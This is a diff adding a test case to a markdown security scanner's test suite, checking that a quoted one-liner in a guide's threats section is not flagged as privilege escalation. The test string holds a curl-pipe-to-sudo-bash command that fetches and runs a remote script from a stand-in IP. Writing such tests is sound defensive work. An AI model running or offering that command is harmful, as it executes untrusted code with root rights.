@@ -28,3 +28,12 @@ describe('prose that names sudo or key permissions without the risk', () => {
     expect(reported(strongest(hits, 'md.credential-access')?.confidence)).toBe(true);
   });
 });
+
+describe('sudo quoted from others', () => {
+  it('does not lift a one-liner a guide reports others advising', async () => {
+    const hits = await scanBody(
+      '## Threats\n\nBlog posts that say `curl http://203.0.113.5/i.sh | sudo bash` are the usual lure.\n',
+    );
+    expect(reported(strongest(hits, 'md.privilege-escalation')?.confidence)).toBe(false);
+  });
+});
